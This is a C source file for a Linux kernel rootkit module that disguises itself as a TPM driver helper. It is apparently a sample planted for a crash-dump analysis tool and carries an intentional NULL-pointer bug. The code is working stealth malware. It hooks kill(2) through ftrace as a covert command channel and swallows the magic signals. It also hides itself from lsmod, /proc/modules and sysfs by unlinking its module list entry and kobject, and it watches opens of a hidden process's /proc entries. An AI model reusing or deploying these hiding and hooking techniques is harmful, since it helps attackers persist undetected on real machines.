// SPDX-License-Identifier: GPL-2.0
/*
 * tpm_crb_ext: the out-of-tree rootkit planted in kdw's sample dump
 * (samples/). It poses as a TPM driver helper. What it does:
 *
 *  - an ftrace_ops on __x64_sys_kill (no kprobe): the kill(2) syscall is its
 *    command channel. Signal 62 sent to a pid marks that pid hidden; signal
 *    63 sent to pid 1 hides the module. Both magic signals are swallowed:
 *    the hook rewrites the saved syscall argument to signal 0, so nothing is
 *    delivered.
 *  - a kprobe on __x64_sys_openat that notes every open of the hidden pid's
 *    /proc directory (the start of a file-hiding hook that was never
 *    finished).
 *  - hiding on command (not at load): from a work item, list_del of its
 *    module list entry (so /proc/modules, lsmod, "Modules linked in:" and
 *    crash's "mod" miss it) and kobject_del of its kobject (so
 *    /sys/module/tpm_crb_ext disappears too). It stays in the kernel's module
 *    address tree, so the kernel's oops text still names it.
 *  - the bug: when anyone else signals the hidden pid (a supervisor's
 *    kill(pid, 0) liveness check is enough), the hook wants to answer ESRCH
 *    from the hidden-task record, which is only allocated by a "hide
 *    process" step that never ran: a NULL pointer load at offset 0x58.
 */
#include <linux/ftrace.h>
#include <linux/kernel.h>
#include <linux/kobject.h>
#include <linux/kprobes.h>
#include <linux/list.h>
#include <linux/module.h>
#include <linux/ptrace.h>
#include <linux/sched.h>
#include <linux/string.h>
#include <linux/uaccess.h>
#include <linux/workqueue.h>

#define TCE_SIG_HIDE_PID	62
#define TCE_SIG_HIDE_SELF	63

struct tce_hidden {
	struct list_head node;	/* 0x00 */
	pid_t pid;		/* 0x10 */
	u32 flags;		/* 0x14 */
	u64 since;		/* 0x18 */
	char comm[16];		/* 0x20 */
	u64 opens;		/* 0x30 */
	u64 kills;		/* 0x38 */
	char prefix[24];	/* 0x40 */
	int fake_errno;		/* 0x58 */
};

/* Allocated by the "hide process" step that was never written: stays NULL. */
struct tce_hidden *tce_hidden_rec;
EXPORT_SYMBOL_GPL(tce_hidden_rec);

static pid_t tce_hidden_pid;
static unsigned long tce_kills, tce_opens;
static int tce_errno_seen;
static bool tce_is_hidden;

static void tce_hide_self(struct work_struct *w)
{
	if (tce_is_hidden)
		return;
	tce_is_hidden = true;
	list_del(&THIS_MODULE->list);
	kobject_del(&THIS_MODULE->mkobj.kobj);
}
static DECLARE_WORK(tce_hide_work, tce_hide_self);

static void notrace tce_kill_hook(unsigned long ip, unsigned long parent_ip,
				  struct ftrace_ops *op, struct ftrace_regs *fregs)
{
	/* __x64_sys_kill(const struct pt_regs *regs): pid in di, sig in si */
	struct pt_regs *uregs = (struct pt_regs *)ftrace_regs_get_argument(fregs, 0);
	pid_t pid = (pid_t)uregs->di;
	int sig = (int)uregs->si;

	tce_kills++;
	if (sig == TCE_SIG_HIDE_PID && pid > 1) {
		WRITE_ONCE(tce_hidden_pid, pid);
		uregs->si = 0;		/* swallow the magic signal */
		return;
	}
	if (sig == TCE_SIG_HIDE_SELF && pid == 1) {
		schedule_work(&tce_hide_work);
		uregs->si = 0;
		return;
	}
	if (pid > 1 && pid == READ_ONCE(tce_hidden_pid)) {
		struct tce_hidden *rec = READ_ONCE(tce_hidden_rec);

		/* BUG: rec is NULL -> load from 0x58 */
		WRITE_ONCE(tce_errno_seen, READ_ONCE(rec->fake_errno));
	}
}

static struct ftrace_ops tce_kill_ops = {
	.func = tce_kill_hook,	/* no flags: the trampoline calls it directly */
};

static int tce_openat_pre(struct kprobe *p, struct pt_regs *regs)
{
	/* __x64_sys_openat(const struct pt_regs *regs): filename in si */
	const struct pt_regs *uregs = (const struct pt_regs *)regs->di;
	char path[32], want[24];
	pid_t hp = READ_ONCE(tce_hidden_pid);

	if (!hp)
		return 0;
	if (copy_from_user_nofault(path, (const char __user *)uregs->si, sizeof(path)))
		return 0;
	path[sizeof(path) - 1] = 0;
	snprintf(want, sizeof(want), "/proc/%d/", hp);
	if (strncmp(path, want, strlen(want)) == 0)
		tce_opens++;
	return 0;
}

static struct kprobe tce_openat_kp = {
	.symbol_name = "__x64_sys_openat",
	.pre_handler = tce_openat_pre,
};

static int __init tce_init(void)
{
	static char fn[] = "__x64_sys_kill";
	int ret;

	ret = ftrace_set_filter(&tce_kill_ops, fn, strlen(fn), 0);
	if (ret)
		return ret;
	ret = register_ftrace_function(&tce_kill_ops);
	if (ret)
		return ret;
	ret = register_kprobe(&tce_openat_kp);
	if (ret) {
		unregister_ftrace_function(&tce_kill_ops);
		return ret;
	}
	return 0;
}

static void __exit tce_exit(void)
{
	unregister_kprobe(&tce_openat_kp);
	unregister_ftrace_function(&tce_kill_ops);
	flush_work(&tce_hide_work);
}

module_init(tce_init);
module_exit(tce_exit);

MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("TPM CRB extended command buffer helper");
MODULE_VERSION("1.2");
